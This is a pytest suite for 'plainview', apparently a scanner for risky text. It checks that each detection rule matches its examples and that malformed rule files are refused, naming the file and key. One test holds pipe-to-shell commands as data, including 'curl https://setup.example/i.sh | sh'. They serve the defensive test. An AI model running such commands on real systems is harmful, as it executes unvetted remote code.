"""Every rule does what its examples say, and a rule file that is wrong is refused by file and key."""

from __future__ import annotations

from pathlib import Path

import pytest
import re2

from plainview.finding import Severity
from plainview.rules import CATEGORIES, DataError, Example, Rule, load_lexicon, load_rule, load_rules, rules_dir
from plainview.scan import Engine, scan
from plainview.settings import Settings
from plainview.text import Source

ENGINE = Engine.load(Settings())
RULES = ENGINE.ruleset.rules
FILES = [file for category in CATEGORIES for file in sorted((rules_dir() / category).glob("*.toml"))]
FLAGGED = [pytest.param(rule, one, id=f"{rule.id}-{n}") for rule in RULES for n, one in enumerate(rule.examples.flag)]
PASSED = [pytest.param(rule, one, id=f"{rule.id}-{n}") for rule in RULES for n, one in enumerate(rule.examples.passed)]


def severities(rule: Rule, example: str | Example) -> list[Severity]:
    """How severe the rule's own findings in the example are; those that its context softened are left out."""
    text, path = (example, "") if isinstance(example, str) else (example.text, example.path)
    found = scan(Source(text), ENGINE, path=path).findings
    return [one.severity for one in found if one.rule == rule.id and one.softened is None]


def test_every_built_in_file_loads() -> None:
    assert ENGINE.errors == []
    assert len(FILES) == len(RULES) >= 80


@pytest.mark.parametrize(("rule", "example"), FLAGGED)
def test_a_flag_example_is_flagged(rule: Rule, example: str | Example) -> None:
    found = severities(rule, example)
    assert found
    assert max(found) >= rule.level


@pytest.mark.parametrize(("rule", "example"), PASSED)
def test_a_pass_example_yields_nothing_above_info(rule: Rule, example: str | Example) -> None:
    assert max(severities(rule, example), default=Severity.INFO) is Severity.INFO


@pytest.mark.parametrize("example", next(rule for rule in RULES if rule.id == "runs-on-load").examples.passed)
def test_nothing_is_said_to_run_that_does_not(example: Example) -> None:
    assert [one for one in scan(Source(example.text), ENGINE, path=example.path).findings if one.security] == []


def test_a_known_installer_and_a_refusal_in_the_next_cell_lower_a_command() -> None:
    rule = next(rule for rule in RULES if rule.id == "pipe-to-shell")
    unknown = "Run `curl https://setup.example/i.sh | sh` once.\n"
    known = "Run `curl -LsSf https://astral.sh/uv/install.sh | sh` once.\n"
    table = "| asked | expected |\n| --- | --- |\n| `curl https://setup.example/i.sh \\| sh` | declines |\n"
    assert [severities(rule, text) for text in (unknown, known, table)] == [
        [Severity.HIGH],
        [Severity.LOW],
        # What is said to be declined is shown, not said.
        [],
    ]


def test_every_category_has_a_rule() -> None:
    assert set(ENGINE.ruleset.categories) == set(CATEGORIES)


@pytest.mark.parametrize("file", FILES, ids=lambda file: file.stem)
def test_a_rule_is_named_after_its_file_and_folder(file: Path) -> None:
    rule = load_rule(file, ENGINE.ruleset.lexicon)
    assert (rule.id, rule.category) == (file.stem, file.parent.name)


def test_no_two_rules_share_an_id_or_a_title() -> None:
    assert len({rule.id for rule in RULES}) == len({rule.title for rule in RULES}) == len(RULES)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_rule_has_three_examples_of_each_verdict_and_says_what_to_do(rule: Rule) -> None:
    assert len(rule.examples.flag) >= 3
    assert len(rule.examples.passed) >= 3
    assert rule.taxonomy
    assert len(rule.why.split()) >= 20
    for sentence in (rule.message, rule.fix):
        assert sentence.endswith(".")
        assert "\n" not in sentence


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_rule_uses_every_atom_that_it_defines(rule: Rule) -> None:
    used = {name for one in rule.match for name in (*one.atoms, *one.unless, *one.lessen)}
    # A detector reads its rule's atoms by name.
    assert rule.detector or set(rule.atoms) == {name for name in used if not name.startswith("@")}


def test_every_pattern_compiles() -> None:
    for rule in RULES:
        for patterns in rule.atoms.values():
            re2.compile("|".join(f"(?:{one})" for one in patterns))


GOOD = """
id = "some-rule"
title = "Some rule"
category = "tool-misuse"
severity = "low"
message = "Says something."
why = "Because."
fix = "Do not."
taxonomy = ["CWE-1"]
[atoms]
word = ['\\bword\\b']
[[match]]
sequence = ["word"]
[examples]
flag = ["word"]
pass = ["other"]
"""

# What is replaced in the good file, by what; the key that the error names, and a part of what it says.
WRONG = [
    pytest.param('title = "Some rule"', "", "", "title is missing", id="missing key"),
    pytest.param('fix = "Do not."', 'fix = "Do not."\ncolour = "red"', "", "colour is no key", id="unknown key"),
    pytest.param('"low"', '"awful"', "severity", "none of info, low", id="severity"),
    pytest.param("some-rule", "Some Rule", "id", "not lower-case words", id="id"),
    pytest.param("tool-misuse", "tools", "category", "none of the categories", id="category"),
    pytest.param('[[match]]\nsequence = ["word"]', "", "match", "needs a [[match]]", id="no match"),
    pytest.param('sequence = ["word"]', "gap = 3", "match[0]", "either a sequence or together", id="empty match"),
    pytest.param('sequence = ["word"]', 'sequence = ["wrod"]', "match[0].sequence", "no atom is called", id="atom"),
    pytest.param('["word"]\n[ex', '["@wrod"]\n[ex', "match[0].sequence", "no atom is called", id="shared atom"),
    pytest.param('["word"]\n[ex', '["word"]\nunless = ["no"]\n[ex', "match[0].unless", "no atom", id="unless"),
    pytest.param('["word"]\n[ex', '["word"]\ngap = 401\n[ex', "match[0].gap", "between 0 and 400", id="wide gap"),
    pytest.param('["word"]\n[ex', '["word"]\nwithin = "file"\n[ex', "match[0].within", "none of clause, ", id="within"),
    pytest.param("\\bword\\b", "a.*b", "atoms.word[0]", "has a gap", id="star gap"),
    pytest.param("\\bword\\b", "a.{0,40}b", "atoms.word[0]", "has a gap", id="counted gap"),
    pytest.param("\\bword\\b", "a[^\\n]+b", "atoms.word[0]", "has a gap", id="negated class"),
    pytest.param("\\bword\\b", "a\\S{2,}b", "atoms.word[0]", "has a gap", id="open repeat"),
    pytest.param("\\bword\\b", "a{201}", "atoms.word[0]", "repeats more than", id="long repeat"),
    pytest.param("\\bword\\b", "(word", "atoms.word[0]", "not a pattern of RE2", id="does not compile"),
    pytest.param("\\bword\\b", "a(?=b)", "atoms.word[0]", "not a pattern of RE2", id="lookahead"),
    pytest.param("\\bword\\b", "Word", "atoms.word[0]", "capital letter", id="capital letter"),
    pytest.param("\\bword\\b", "(?:word)?", "atoms.word[0]", "matches the empty text", id="empty match of an atom"),
    pytest.param("['\\bword\\b']", "[]", "atoms.word", "at least one pattern", id="no pattern"),
    pytest.param('flag = ["word"]', "flag = []", "examples.flag", "at least one example", id="no flag example"),
    pytest.param('pass = ["other"]', "pass = []", "examples.pass", "at least one example", id="no pass example"),
    pytest.param('id = "some-rule"', "id = ", "", "not valid TOML", id="not TOML"),
]


def test_the_good_rule_of_the_table_loads(tmp_path: Path) -> None:
    file = tmp_path / "some-rule.toml"
    file.write_text(GOOD, "utf-8")
    assert load_rule(file, {}).id == "some-rule"


@pytest.mark.parametrize(("old", "new", "key", "problem"), WRONG)
def test_a_malformed_rule_is_refused_by_file_and_key(
    tmp_path: Path, old: str, new: str, key: str, problem: str
) -> None:
    file = tmp_path / "some-rule.toml"
    assert GOOD.count(old) == 1
    file.write_text(GOOD.replace(old, new), "utf-8")
    with pytest.raises(DataError) as caught:
        load_rule(file, {})
    assert (caught.value.file, caught.value.key) == (file, key)
    assert problem in caught.value.problem


def test_a_malformed_lexicon_is_refused_by_file_and_key(tmp_path: Path) -> None:
    file = tmp_path / "lexicon.toml"
    file.write_text("[atoms]\nword = ['a.*b']\n", "utf-8")
    with pytest.raises(DataError) as caught:
        load_lexicon(file)
    assert (caught.value.file, caught.value.key) == (file, "atoms.word[0]")


def test_a_bad_file_does_not_keep_the_others_from_running(tmp_path: Path) -> None:
    (tmp_path / "a.toml").write_text("id =", "utf-8")
    (tmp_path / "b.toml").write_text(GOOD, "utf-8")
    loaded = load_rules([tmp_path, tmp_path / "none"])
    assert [(error.file.name, error.problem.split(":")[0]) for error in loaded.errors] == [
        ("a.toml", "not valid TOML"),
        ("none", "no such folder"),
    ]
    assert loaded.rule("some-rule") is not None
    assert len(loaded.rules) == len(RULES) + 1
